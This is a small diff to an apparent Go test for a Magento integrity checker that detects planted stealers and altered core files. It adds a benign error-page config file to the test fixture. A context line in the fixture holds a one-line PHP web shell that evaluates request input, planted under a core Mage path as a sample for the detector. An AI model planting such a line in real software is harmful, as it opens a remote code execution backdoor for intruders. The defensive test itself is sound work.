@@ -79,6 +79,7 @@ func TestCheckFindsStealers(t *testing.T) {
 	store[patched] = rels["1.9.4.5"][patched] // SUPEE-style patch: known
 	store["app/code/core/Mage/Core/Model/Session/Abstract/Lib.php"] = "<?php eval($_REQUEST['x']);\n"
 	store["js/myextension/slider.js"] = "var s = 1;\n" // extension file, not core
+	store["errors/local.xml"] = "<config/>\n"          // the store's own error-page config
 	var gone, css, linked string
 	for _, p := range slices.Sorted(maps.Keys(store)) {
 		if strings.HasPrefix(p, "app/code/core/Mage/Cms/") && linked == "" {
